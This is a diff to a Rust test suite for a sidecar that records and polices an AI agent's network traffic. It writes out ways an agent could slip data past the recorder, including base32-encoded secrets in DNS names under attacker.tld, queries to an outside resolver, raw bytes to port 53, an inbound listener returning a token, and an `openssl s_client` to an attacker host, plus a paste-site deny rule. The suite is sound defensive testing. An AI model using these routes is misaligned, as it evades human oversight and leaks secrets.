@@ -34,6 +34,19 @@ const SESSION_SPEC: &str = r#"{
   ]}
 }"#;
 
+/// [`SESSION_SPEC`] with a host rule that keeps a paste site out, names and all.
+const WAYS_AROUND_SPEC: &str = r#"{
+  "maxDuration": "2h",
+  "recording": {"sink": "file:///var/run/cassette/sink"},
+  "policy": {"rules": [
+    {"name": "no-pastebin", "action": "deny", "match": {"host": "*.pastebin.example"}},
+    {"name": "protect-main", "action": "deny", "match": {"gitRef": "refs/heads/main"}}
+  ]}
+}"#;
+
+/// A GitHub token as an agent's listener might hand it out.
+const GITHUB_TOKEN: &str = "ghp_cassetteInboundTest0123456789abcdefg";
+
 /// The session's fingerprint key, which auditors hold and agents do not.
 const FINGERPRINT_KEY: &[u8] = b"auditors-only-fingerprint-key-0123456789";
 
@@ -739,6 +752,238 @@ fn s_client(pod: &Pod, connect: &str, sni: &str) -> Result<std::process::Output>
     Ok(child.wait_with_output()?)
 }
 
+/// A stand-in for the cluster's resolver on `ip:53` (UDP and TCP) in the net namespace: it
+/// answers `A <answer>` for names under `.test`, NXDOMAIN for the rest, and writes each
+/// question it hears (`<name> <qtype>`) to `log`, or `bad …` for what it cannot read.
+fn resolver_stand_in(pod: &Pod, ip: Ipv4Addr, answer: Ipv4Addr, log: &Path) -> Result<Child> {
+    if ip != pod.topology.net_ip() {
+        let mut add =
+            pod.topology
+                .net_command(Identity::Root, "ip", std::iter::empty::<(&str, &str)>());
+        add.args(["addr", "add", &format!("{ip}/32"), "dev", "lo"]);
+        output_within(add, TIMEOUT)?;
+    }
+    let ready = log.with_extension("ready");
+    let mut serve = pod.topology.net_command(
+        Identity::Root,
+        "/usr/bin/python3",
+        std::iter::empty::<(&str, &str)>(),
+    );
+    serve.args([
+        "-c",
+        r#"
+import socket, struct, sys, threading
+ip, log_path, answer_ip, ready = sys.argv[1:5]
+log = open(log_path, 'a', buffering=1)
+def answer(q):
+    i, labels = 12, []
+    while q[i]:
+        labels.append(q[i+1:i+1+q[i]].decode('latin-1')); i += 1 + q[i]
+    name = '.'.join(labels).lower(); qtype = struct.unpack('>H', q[i+1:i+3])[0]; end = i + 5
+    log.write('%s %d\n' % (name, qtype))
+    known = name.endswith('.test')
+    an = 1 if known and qtype == 1 else 0
+    out = q[:2] + struct.pack('>HHHHH', 0x8180 if known else 0x8183, 1, an, 0, 0) + q[12:end]
+    if an:
+        out += b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 60, 4) + socket.inet_aton(answer_ip)
+    return out
+def guarded(q):
+    try:
+        return answer(q)
+    except Exception:
+        log.write('bad %r\n' % (q[:40],)); return None
+def recvall(c, n):
+    b = b''
+    while len(b) < n:
+        d = c.recv(n - len(b))
+        if not d: raise EOFError
+        b += d
+    return b
+def tcp_conn(c):
+    try:
+        while True:
+            r = guarded(recvall(c, struct.unpack('>H', recvall(c, 2))[0]))
+            if not r: break
+            c.sendall(struct.pack('>H', len(r)) + r)
+    except Exception:
+        pass
+    c.close()
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((ip, 53))
+t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); t.bind((ip, 53)); t.listen(16)
+def udp():
+    while True:
+        q, a = u.recvfrom(4096); r = guarded(q)
+        if r: u.sendto(r, a)
+threading.Thread(target=udp, daemon=True).start()
+open(ready, 'w').close()
+while True:
+    c, a = t.accept(); threading.Thread(target=tcp_conn, args=(c,), daemon=True).start()
+"#,
+    ]);
+    serve.args([
+        ip.to_string(),
+        log.display().to_string(),
+        answer.to_string(),
+        ready.display().to_string(),
+    ]);
+    let child = serve.spawn()?;
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !ready.exists() {
+        anyhow::ensure!(
+            Instant::now() < deadline,
+            "the resolver stand-in on {ip} did not start"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    Ok(child)
+}
+
+/// What a DNS lookup as the agent got: the response code (or `ERROR …`) and the answers,
+/// `TYPE value` each.
+#[derive(Debug)]
+struct Lookup {
+    status: String,
+    answers: Vec<String>,
+}
+
+/// `dig @server name qtype` as the agent (over TCP with `tcp`), or the same query from a
+/// Python socket where dig is not installed (Debian's bind9-dnsutils has it).
+fn lookup(pod: &Pod, server: Ipv4Addr, name: &str, qtype: &str, tcp: bool) -> Result<Lookup> {
+    let server = server.to_string();
+    let dig = netns::find_binary("dig");
+    let out = if dig.is_file() {
+        let mut args = vec![
+            "+tries=1".to_string(),
+            "+time=8".into(),
+            "+noall".into(),
+            "+comments".into(),
+            "+answer".into(),
+            format!("@{server}"),
+            name.into(),
+            qtype.into(),
+        ];
+        if tcp {
+            args.push("+tcp".into());
+        }
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        output_within(pod.agent(&dig, &args), TIMEOUT)?
+    } else {
+        let transport = if tcp { "tcp" } else { "udp" };
+        output_within(
+            pod.agent(
+                "/usr/bin/python3",
+                &[
+                    "-c",
+                    r#"
+import random, socket, struct, sys
+server, name, qtype, transport = sys.argv[1:5]
+q = struct.pack('>HHHHHH', random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
+q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
+q += struct.pack('>HH', {'A': 1, 'TXT': 16, 'AAAA': 28}[qtype], 1)
+try:
+    if transport == 'tcp':
+        s = socket.create_connection((server, 53), timeout=8)
+        s.sendall(struct.pack('>H', len(q)) + q)
+        f = s.makefile('rb'); r = f.read(struct.unpack('>H', f.read(2))[0])
+    else:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8)
+        s.sendto(q, (server, 53)); r = s.recv(4096)
+except OSError as e:
+    print('status: ERROR', e); sys.exit(0)
+codes = {0: 'NOERROR', 1: 'FORMERR', 2: 'SERVFAIL', 3: 'NXDOMAIN', 5: 'REFUSED'}
+print('status: %s,' % codes.get(r[3] & 15, r[3] & 15))
+i = len(q)
+for _ in range(struct.unpack('>H', r[6:8])[0]):
+    if r[i] & 0xc0:
+        i += 2
+    else:
+        while r[i]: i += 1 + r[i]
+        i += 1
+    t, c, ttl, n = struct.unpack('>HHIH', r[i:i+10]); i += 10
+    if t == 1: print('x. 60 IN A', socket.inet_ntoa(r[i:i+n]))
+    i += n
+"#,
+                    &server,
+                    name,
+                    qtype,
+                    transport,
+                ],
+            ),
+            TIMEOUT,
+        )?
+    };
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    let status = text
+        .split("status: ")
+        .nth(1)
+        .map(|rest| {
+            rest.split([',', '\n'])
+                .next()
+                .unwrap_or_default()
+                .to_string()
+        })
+        .unwrap_or_else(|| format!("ERROR (no status): {text}"));
+    let answers = text
+        .lines()
+        .filter(|l| !l.starts_with(';') && !l.trim().is_empty() && !l.starts_with("status"))
+        .filter_map(|l| {
+            let fields: Vec<&str> = l.split_whitespace().collect();
+            (fields.len() >= 5).then(|| format!("{} {}", fields[3], fields[4]))
+        })
+        .collect();
+    Ok(Lookup { status, answers })
+}
+
+/// RFC 4648 base32 without padding: how exfiltration tools fit bytes into a DNS label.
+fn base32(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+    let (mut out, mut buffer, mut bits) = (String::new(), 0u32, 0);
+    for &b in bytes {
+        buffer = (buffer << 8) | u32::from(b);
+        bits += 8;
+        while bits >= 5 {
+            out.push(ALPHABET[((buffer >> (bits - 5)) & 31) as usize] as char);
+            bits -= 5;
+        }
+    }
+    if bits > 0 {
+        out.push(ALPHABET[((buffer << (5 - bits)) & 31) as usize] as char);
+    }
+    out
+}
+
+/// Bytes that are not DNS, sent to port 53 as the agent: a datagram, then a TCP stream.
+fn not_dns_to_port_53(pod: &Pod, server: Ipv4Addr, payload: &str) -> Result<String> {
+    let out = output_within(
+        pod.agent(
+            "/usr/bin/python3",
+            &[
+                "-c",
+                r#"
+import socket, sys, time
+server, payload = sys.argv[1], sys.argv[2].encode()
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+u.sendto(payload, (server, 53))
+try:
+    print('udp answered', u.recv(4096))
+except OSError as e:
+    print('udp no answer:', e)
+try:
+    t = socket.create_connection((server, 53), timeout=5)
+    t.sendall(payload); t.settimeout(3)
+    print('tcp answered', t.recv(4096))
+except OSError as e:
+    print('tcp no answer:', e)
+"#,
+                &server.to_string(),
+                payload,
+            ],
+        ),
+        TIMEOUT,
+    )?;
+    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
+}
+
 /// Each way an agent could try to get bytes past the recorder, and what must happen:
 ///
 /// | attack | expected |
@@ -750,10 +995,24 @@ fn s_client(pod: &Pod, connect: &str, sni: &str) -> Result<std::process::Output>
 /// | the sidecar's own admin port | answers, with nothing secret |
 /// | `openssl s_client -connect ATTACKER:443 -servername <passthrough host>` | refused, recorded as `destination`: the attacker never sees a connection |
 /// | the passthrough host at its own address | tunnelled, its bytes recorded both ways as `stream` records |
+/// | `dig` (UDP, then TCP) to the cluster's resolver | answered by it through the sidecar; a `dns` record with name, type, answer, resolver |
+/// | `dig @<another resolver>` (UDP and TCP) | answered by the cluster's resolver only; the other hears nothing; a TCP query's record names the resolver asked |
+/// | `dig $(base32 secret).attacker.tld` | the name, as sent, is in a `dns` record |
+/// | a name a host rule denies | NXDOMAIN from the sidecar, never forwarded; recorded as denied, with the rule |
+/// | bytes that are not DNS to port 53 (UDP and TCP) | dropped, never forwarded; recorded as `FORMERR` with what was sent |
+/// | a peer outside the pod connects to a listener the agent opened | carried, both directions recorded as masked `stream` records of an `inbound` connection |
+/// | UDP from outside the pod to a socket the agent bound | dropped |
+/// | the kubelet probing the sidecar's admin port from outside | answers |
 #[test]
 fn the_ways_around_the_recorder_are_closed() -> Result<()> {
     require_root!();
-    let mut pod = Pod::start_with(false, &[("CASSETTE_PASSTHROUGH", "git.test")])?;
+    let mut pod = Pod::start_with(
+        false,
+        &[
+            ("CASSETTE_PASSTHROUGH", "git.test"),
+            ("CASSETTE_SESSION_SPEC", WAYS_AROUND_SPEC),
+        ],
+    )?;
     let real = pod.upstreams.token().to_string();
     let metadata = pod.topology.metadata_ip();
 
@@ -877,8 +1136,256 @@ fn the_ways_around_the_recorder_are_closed() -> Result<()> {
     let admin = pod.agent_ok("curl", &["-sS", "http://127.0.0.1:15090/metrics"])?;
     assert!(!admin.contains(&real));
 
+    // DNS: the cluster's resolver (the pod's resolv.conf names it), and another one.
+    let cluster = pod.topology.net_ip();
+    let other = Ipv4Addr::new(10, 231, pod.topology.subnet(), 53);
+    let cluster_log = pod.dir.path().join("resolver.log");
+    let other_log = pod.dir.path().join("other-resolver.log");
+    let mut resolvers = vec![
+        resolver_stand_in(&pod, cluster, cluster, &cluster_log)?,
+        resolver_stand_in(&pod, other, Ipv4Addr::new(10, 9, 9, 9), &other_log)?,
+    ];
+    let udp = lookup(&pod, cluster, "echo.test", "A", false)?;
+    let tcp = lookup(&pod, cluster, "git.test", "A", true)?;
+    let elsewhere_udp = lookup(&pod, other, "dns-udp.test", "A", false)?;
+    let elsewhere_tcp = lookup(&pod, other, "dns-tcp.test", "A", true)?;
+    let secret_label = base32(b"agent-saw-hunter2");
+    let exfil_name = format!("{secret_label}.attacker.tld");
+    let exfil = lookup(&pod, cluster, &exfil_name, "TXT", false)?;
+    let denied = lookup(&pod, cluster, "paste.pastebin.example", "A", false)?;
+    let not_dns = not_dns_to_port_53(&pod, cluster, "this is not dns, just bytes out")?;
+    std::thread::sleep(Duration::from_millis(300));
+    for resolver in &mut resolvers {
+        let _ = resolver.kill();
+        let _ = resolver.wait();
+    }
+    let cluster_heard = std::fs::read_to_string(&cluster_log)?;
+    let other_heard = std::fs::read_to_string(&other_log)?;
+    let answer = format!("A {cluster}");
+    for (what, got) in [
+        ("UDP", &udp),
+        ("TCP", &tcp),
+        ("UDP to another resolver", &elsewhere_udp),
+        ("TCP to another resolver", &elsewhere_tcp),
+    ] {
+        assert!(
+            got.status == "NOERROR" && got.answers.contains(&answer),
+            "DNS over {what} was not answered by the cluster's resolver: {got:?}\n{}",
+            pod.sidecar_log()
+        );
+    }
+    assert_eq!(exfil.status, "NXDOMAIN", "{exfil:?}");
+    assert_eq!(denied.status, "NXDOMAIN", "{denied:?}");
+    assert!(
+        other_heard.is_empty(),
+        "a resolver of the agent's choice was reached: {other_heard}"
+    );
+    assert!(
+        !cluster_heard.contains("pastebin"),
+        "a denied name was forwarded: {cluster_heard}"
+    );
+    assert!(
+        !cluster_heard.contains("bad") && !cluster_heard.contains("just bytes"),
+        "bytes that are not DNS reached the resolver: {cluster_heard}\n{not_dns}"
+    );
+    assert!(
+        cluster_heard.contains(&format!("{} 16", exfil_name.to_lowercase())),
+        "{cluster_heard}"
+    );
+
+    // Inbound: a peer outside the pod talks to a listener the agent opened.
+    let ready = pod.home.path().join("listener.ready");
+    let heard = pod.home.path().join("listener.heard");
+    let mut listener = pod.agent(
+        "/usr/bin/python3",
+        &[
+            "-c",
+            r#"
+import socket, sys, time
+ready, heard, reply = sys.argv[1:4]
+t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+t.bind(('0.0.0.0', 8080)); t.listen(4); t.settimeout(0.2)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9999)); u.settimeout(0.2)
+log = open(heard, 'a', buffering=1)
+open(ready, 'w').close()
+deadline = time.time() + 60
+while time.time() < deadline:
+    try:
+        d, a = u.recvfrom(4096); log.write('udp %r\n' % d)
+    except OSError:
+        pass
+    try:
+        c, a = t.accept()
+    except OSError:
+        continue
+    c.settimeout(5)
+    line = c.makefile().readline()
+    if line:
+        log.write('tcp ' + line); c.sendall(reply.encode() + b'\n')
+    c.close()
+"#,
+            &ready.display().to_string(),
+            &heard.display().to_string(),
+            &format!("agent says {GITHUB_TOKEN}"),
+        ],
+    );
+    let mut listener = listener.spawn()?;
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !ready.exists() {
+        anyhow::ensure!(
+            Instant::now() < deadline,
+            "the agent's listener did not start"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let pod_ip = pod.topology.pod_ip().to_string();
+    let mut peer = pod.topology.net_command(
+        Identity::Root,
+        "/usr/bin/python3",
+        std::iter::empty::<(&str, &str)>(),
+    );
+    peer.args([
+        "-c",
+        r#"
+import socket, sys
+pod_ip, line = sys.argv[1:3]
+c = socket.create_connection((pod_ip, 8080), timeout=10)
+c.sendall(line.encode() + b'\n')
+print(c.makefile().readline().strip())
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for _ in range(3):
+    u.sendto(b'udp from outside', (pod_ip, 9999))
+"#,
+        &pod_ip,
+        &format!("peer says {API_KEY}"),
+    ]);
+    let peer_got = output_within(peer, TIMEOUT)?;
+    std::thread::sleep(Duration::from_millis(800));
+    let _ = listener.kill();
+    let _ = listener.wait();
+    let peer_got = String::from_utf8_lossy(&peer_got.stdout).into_owned();
+    let agent_heard = std::fs::read_to_string(&heard).unwrap_or_default();
+    assert!(
+        peer_got.contains(&format!("agent says {GITHUB_TOKEN}")),
+        "the peer's connection to the agent's listener did not work: {peer_got:?}\n{}",
+        pod.sidecar_log()
+    );
+    assert!(
+        agent_heard.contains(&format!("tcp peer says {API_KEY}")),
+        "{agent_heard}"
+    );
+    assert!(
+        !agent_heard.contains("udp"),
+        "UDP from outside reached the agent: {agent_heard}"
+    );
+    // The sidecar's own probe port answers from outside, as the kubelet needs.
+    let mut probe =
+        pod.topology
+            .net_command(Identity::Root, "curl", std::iter::empty::<(&str, &str)>());
+    probe.args([
+        "-sS",
+        "--max-time",
+        "5",
+        &format!("http://{pod_ip}:15090/readyz"),
+    ]);
+    assert!(
+        output_within(probe, TIMEOUT)?.status.success(),
+        "the admin port is unreachable from outside"
+    );
+
     let (records, report) = pod.stop_and_read()?;
     assert!(report.is_ok(), "{report:?}");
+    let dns = kinds(&records, "dns");
+    let query = |name: &str, transport: &str| {
+        dns.iter()
+            .find(|d| d["name"] == name && d["transport"] == transport)
+            .copied()
+            .with_context(|| format!("no {transport} dns record for {name}: {dns:#?}"))
+    };
+    let resolver = format!("{cluster}:53");
+    let recorded = query("echo.test", "udp")?;
+    assert_eq!(recorded["qtype"], "A");
+    assert_eq!(recorded["rcode"], "NOERROR");
+    assert_eq!(recorded["answers"], serde_json::json!([answer]));
+    assert_eq!(recorded["resolver"], resolver);
+    assert_eq!(recorded["decision"], "allow");
+    assert!(
+        recorded["client"]
+            .as_str()
+            .is_some_and(|c| c.starts_with(&pod_ip)),
+        "{recorded}"
+    );
+    let recorded = query("git.test", "tcp")?;
+    assert_eq!(recorded["answers"], serde_json::json!([answer]));
+    assert_eq!(recorded["asked"], resolver);
+    let recorded = query("dns-udp.test", "udp")?;
+    assert_eq!(recorded["resolver"], resolver, "{recorded}");
+    let recorded = query("dns-tcp.test", "tcp")?;
+    assert_eq!(recorded["asked"], format!("{other}:53"), "{recorded}");
+    assert_eq!(recorded["resolver"], resolver, "{recorded}");
+    let recorded = query(&exfil_name.to_lowercase(), "udp")?;
+    assert_eq!(recorded["qtype"], "TXT");
+    assert_eq!(recorded["rcode"], "NXDOMAIN");
+    let recorded = query("paste.pastebin.example", "udp")?;
+    assert_eq!(recorded["decision"], "deny");
+    assert_eq!(recorded["rcode"], "NXDOMAIN");
+    assert!(recorded.get("resolver").is_none(), "{recorded}");
+    assert!(
+        recorded["rule"]
+            .as_str()
+            .is_some_and(|r| r.contains("no-pastebin")),
+        "{recorded}"
+    );
+    for transport in ["udp", "tcp"] {
+        let dropped = dns
+            .iter()
+            .find(|d| d["transport"] == transport && d["rcode"] == "FORMERR")
+            .with_context(|| {
+                format!("the {transport} bytes that are not DNS are not recorded: {dns:#?}")
+            })?;
+        assert!(
+            dropped["error"]
+                .as_str()
+                .is_some_and(|e| e.contains("not a DNS query")),
+            "{dropped}"
+        );
+        assert!(dropped.get("resolver").is_none(), "{dropped}");
+        use base64::Engine as _;
+        let kept = base64::engine::general_purpose::STANDARD
+            .decode(dropped["base64"].as_str().unwrap_or_default())?;
+        assert!(
+            String::from_utf8_lossy(&kept).contains("this is not dns"),
+            "{dropped}"
+        );
+    }
+
+    // The inbound connection: both directions recorded, secrets masked.
+    let opened = kinds(&records, "conn_open")
+        .into_iter()
+        .find(|c| c["capture"] == "inbound" && c["dst"] == format!("{pod_ip}:8080"))
+        .with_context(|| format!("no inbound conn_open: {:#?}", kinds(&records, "conn_open")))?;
+    let inbound: Vec<&Value> = kinds(&records, "stream")
+        .into_iter()
+        .filter(|r| r["conn"] == opened["conn"])
+        .collect();
+    let text = |direction: &str| -> String {
+        inbound
+            .iter()
+            .filter(|r| r["direction"] == direction)
+            .filter_map(|r| r["text"].as_str())
+            .collect()
+    };
+    let (sent_in, sent_out) = (text("down"), text("up"));
+    assert!(
+        sent_in.contains("peer says «masked:google-api-key:"),
+        "what the peer sent in: {sent_in:?}"
+    );
+    assert!(
+        sent_out.contains("agent says «masked:github-token:"),
+        "what the agent sent out: {sent_out:?}"
+    );
+    let whole = serde_json::to_string(&records)?;
+    assert!(!whole.contains(API_KEY) && !whole.contains(GITHUB_TOKEN));
     let blocked = kinds(&records, "blocked");
     assert!(
         blocked.iter().any(|b| b["message"]
